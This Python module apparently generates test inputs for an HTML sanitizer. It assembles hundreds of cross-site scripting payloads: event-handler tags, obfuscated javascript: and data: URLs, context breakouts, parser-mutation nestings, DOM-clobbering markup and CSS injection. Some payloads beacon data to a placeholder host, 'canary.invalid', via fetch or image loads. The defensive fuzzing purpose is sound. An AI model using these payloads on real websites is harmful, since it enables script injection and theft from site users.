"""HTML: elements, handlers, addresses, ways out of a context, foreign vocabularies, styles, names that hide others."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import cycle, product

CANARY = "canary.invalid"
"""The host that hostile payloads load from or report to; ".invalid" names nothing (RFC 2606 §2)."""
CALLS = (
    "alert('§')",
    "confirm('§')",
    "prompt('§')",
    "alert`§`",
    "(0,alert)('§')",
    "top['al'+'ert']('§')",
    "setTimeout('alert(\\'§\\')')",
    f"fetch('//{CANARY}/§')",
    f"new Image().src='//{CANARY}/§'",
    "canary('§')",
)
_ELEMENTS = (
    "img src=x", "svg", "body", "video src=x", "audio src=x", "input autofocus", "details open", "marquee", "iframe",
    "object data=x", "embed src=x", "form", "button", "select autofocus", "textarea autofocus", "a href=x", "p", "div",
    "math", "table", "keygen autofocus", "isindex", "xss", "style", "link rel=stylesheet href=x", "script src=x",
    "image src=x", "bgsound src=x", "track src=x", "source src=x", "frameset", "dialog open", "summary", "h2", "li",
)  # fmt: skip
_HANDLERS = (
    "onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onstart", "onanimationstart", "onpageshow",
    "onbeforeprint", "onpointerenter", "onwheel", "oncut", "onscroll", "onloadstart", "onbegin", "ontransitionend",
    "onbeforetoggle", "onauxclick", "onresize", "onhashchange", "onmessage", "onunhandledrejection", "onsearch",
)  # fmt: skip
# How a handler is written: {0} the element, {1} the handler, {2} the call.
_WRITINGS = (
    '<{0} {1}="{2}">',
    "<{0} {1}={2}>",
    "<{0}/{1}='{2}'/>",
    '<{0}\n{1}\n=\n"{2}"\n>',
    "<{0}\t{1}\t=\t'{2}'>x",
    '<{0}\x0c{1}="{2}">',
    "<{0} x='>' {1}=\"{2}\">",
    "<{0} x=\"'\" {1}='{2}'",
    '<<{0} {1}="{2}">',
    '<{0} """{1}="{2}">',
    "<{0} x=`y` {1}=`{2}`>",
    '<{0} {1}="&#x{3:x};{4}">',
)


def handlers() -> Iterator[str]:
    calls = cycle(CALLS)
    for number, (element, handler) in enumerate(product(_ELEMENTS, _HANDLERS)):
        writing = _WRITINGS[number % len(_WRITINGS)]
        call = next(calls).replace('"', "&quot;")
        name = handler.upper() if number % 7 == 0 else handler.title() if number % 7 == 1 else handler
        tag = element.upper() if number % 5 == 0 else element
        yield writing.format(tag, name, call, ord(call[0]), call[1:])


SCHEMES = (
    "javascript:{0}",
    "JaVaScRiPt:{0}",
    "java\tscript:{0}",
    "java\nscript:{0}",
    "java&#9;script:{0}",
    "java&Tab;script&colon;{0}",
    "&#106;&#97;vascript:{0}",
    "&#x6A;avascript&#58;{0}",
    "&#0000106avascript:{0}",
    " \x01javascript:{0}",
    "\u00a0javascript:{0}",
    "javascript&#0058;{0}",
    "javascript://%0a{0}",
    "javascript://example.org/%0d%0a{0}",
    "vbscript:msgbox('§')",
    "data:text/html,<script>{0}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgnQCcpPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload=\"{0}\"/>",
    "DATA:application/xhtml+xml,<script>{0}</script>",
    "feed:javascript:{0}",
    "view-source:javascript:{0}",
    "jar:https://canary.invalid/§!/",
    "blob:https://canary.invalid/§",
    "livescript:{0}",
    "mocha:{0}",
    "\ufeffjavascript:{0}",
    "java\x00script:{0}",
    "javas\u200bcript:{0}",
    "https://canary.invalid/§",
    "//canary.invalid/§",
    "\\\\canary.invalid/§",
    "/\\canary.invalid/§",
    "/\t/canary.invalid/§",
    "https:\\canary.invalid\\§",
    "ht\ntps://canary.invalid/§",
)
_PLACES = (
    '<a href="{0}">x</a>',
    "<a href='{0}' target=_blank ping='{0}'>x</a>",
    '<img src="{0}">',
    '<img srcset="{0} 1x, {0} 2x" src="{0}">',
    '<picture><source srcset="{0}"><img src=x></picture>',
    '<iframe src="{0}"></iframe>',
    '<iframe srcdoc="{0}"></iframe>',
    '<form action="{0}"><button>x</button></form>',
    '<form id=f§></form><button form=f§ formaction="{0}">x</button>',
    '<input type=image src="{0}">',
    '<object data="{0}"></object>',
    '<embed src="{0}">',
    '<video src="{0}" poster="{0}"></video>',
    '<audio src="{0}" autoplay></audio>',
    '<svg><a xlink:href="{0}"><text y=20>x</text></a></svg>',
    '<svg><use href="{0}#x"/></svg>',
    '<svg><image href="{0}"/><feImage href="{0}"/></svg>',
    '<svg><animate attributeName=href values="{0}"/></svg>',
    '<math><mi href="{0}" xlink:href="{0}">x</mi></math>',
    '<link rel=stylesheet href="{0}"><link rel=prefetch href="{0}">',
    '<base href="{0}">',
    '<meta http-equiv=refresh content="0;url={0}">',
    '<body background="{0}"><table background="{0}"><td background="{0}">x</table>',
    '<script src="{0}"></script>',
    '<blockquote cite="{0}">x</blockquote><q cite="{0}">x</q><del cite="{0}">x</del>',
    '<p style="background:url({0})">x</p>',
    "[x]({0})",
    "[x](<{0}>)",
    '![x]({0} "t")',
    "[x][r§]\n\n[r§]: {0}",
    "<{0}>",
    "[![x]({0})]({0})",
)


def addresses() -> Iterator[str]:
    calls = cycle(CALLS)
    for place, scheme in product(_PLACES, SCHEMES):
        address = scheme.format(next(calls))
        yield place.format(address.replace('"', "&quot;"))


_BREAKOUTS = (
    '">', "'>", "`>", "-->", "--!>", "]]>", "?>", "%>", "</title>", "</textarea>", "</style>", "</script>",
    "</noscript>", "</template>", "</svg>", "</math>", "</select>", "</xmp>", "</iframe>", "</pre></code>",
    "</div></div></main></body></html>", "</article>", "</head><body>", "\\\">", '\\u003c/script>', "\u2028", "\x00>",
    "{{", "}}'\">", "\n---\n", "\n...\n", "\r\n\r\n", "*/", "//--></SCRIPT>",
)  # fmt: skip
_RUNNERS = (
    "<script>alert('§')</script>",
    "<ScRiPt >alert('§')</sCrIpT >",
    "<script\x20type=module>alert('§')</script>",
    "<script/src=//canary.invalid/§></script>",
    "<img src=x onerror=alert('§')>",
    "<svg/onload=alert('§')>",
    "<svg><script>alert&#40;'§'&#41;</script></svg>",
    "<iframe srcdoc=\"<script>parent.alert('§')</script>\"></iframe>",
    "<scr<script>ipt>alert('§')</scr</script>ipt>",
    "<script>/*<![CDATA[*/alert('§')/*]]>*/</script>",
    "\uff1cscript\uff1ealert('§')\uff1c/script\uff1e",
    "%3Cscript%3Ealert('§')%3C/script%3E",
    "+ADw-script+AD4-alert('§')+ADw-/script+AD4-",
    "&lt;script&gt;alert('§')&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert('§')&amp;gt;",
    "<details open ontoggle=alert('§')>",
    "<input autofocus onfocus=alert('§')>",
    "<link rel=stylesheet href=//canary.invalid/§>",
)


def breakouts() -> Iterator[str]:
    for breakout, runner in product(_BREAKOUTS, _RUNNERS):
        yield breakout + runner


_ROOTS = (
    "<math>",
    "<svg>",
    "<form><math>",
    "<table><svg>",
    "<select><template>",
    "<math><mtext>",
    "<svg><desc>",
    "<p>",
)
_INTEGRATION = (
    "<mglyph>", "<malignmark>", "<foreignObject>", "<annotation-xml encoding='text/html'>", "<title>", "<table>",
    "<noscript>",
)  # fmt: skip
_RAW = (
    "<style><!--</style>{0}-->",
    '<style><a title="</style>{0}">',
    "<xmp><p title='</xmp>{0}'>",
    "<textarea></title></textarea>{0}",
    '<noembed><a id="</noembed>{0}">',
    '<noscript><p title="</noscript>{0}">',
    "<![CDATA[</svg>{0}]]>",
    "<!--><p title='-->{0}'>",
    '<iframe><img title="</iframe>{0}">',
)


def mutations() -> Iterator[str]:
    runners = cycle(_RUNNERS[4:6])
    for root, point, raw in product(_ROOTS, _INTEGRATION, _RAW):
        yield root + point + raw.format(next(runners))


_NAMES = (
    "page__main", "search", "location", "document", "body", "head", "forms", "cookie", "currentScript", "querySelector",
    "pagefind", "config", "theme", "root", "__proto__", "constructor", "getElementById", "navigator", "history",
    "toString", "alert", "defaultView", "parentNode", "attributes", "nodeName", "insights", "dialog", "results",
)  # fmt: skip
_CLOBBERS = (
    "<a id={0} href=//canary.invalid/§>x</a><a id={0} name=src href=//canary.invalid/§>y</a>",
    "<form name={0}><input name=action value=§><output name=attributes></form>",
    "<img name={0} src=x>",
    "<iframe name={0} srcdoc='<a id=y href=javascript:alert(1)>§</a>'></iframe>",
    "## x {{: id={0} name={0} }}",
    "## {0}\n\n[x](#{0}){{: name={0} }}",
)


def clobbering() -> Iterator[str]:
    for clobber, name in product(_CLOBBERS, _NAMES):
        yield clobber.format(name)


_STYLES = (
    "<style>@import '//canary.invalid/§';</style>",
    "<style>*{background:url(//canary.invalid/§)}</style>",
    "<p style=\"background-image:url('//canary.invalid/§')\">x</p>",
    "<p style=\"width:expression(alert('§'))\">x</p>",
    '<p style="-moz-binding:url(//canary.invalid/§#x)">x</p>',
    "<p style='behavior:url(#default#time2)' onbegin=alert('§')>x</p>",
    "<p style=\"content:'\\3c script\\3e'\">x</p>",
    '<div style="position:fixed;inset:0;z-index:9999">§</div>',
    "<style>@keyframes x{}</style><p style='animation-name:x' onanimationstart=alert('§')>x</p>",
    "<style>@font-face{font-family:x;src:url(//canary.invalid/§)}</style><p style=font-family:x>x</p>",
    "<font color=red face='x' onmouseover=alert('§')>x</font>",
    "<p class='search-dialog skip visually-hidden' id=page__search>§</p>",
)


def styles() -> Iterator[str]:
    for style, prefix in product(_STYLES, ("", "<svg>", "<math>", "</style>", "<p>", "<table>", "> ", "- ", "1. ")):
        yield prefix + style
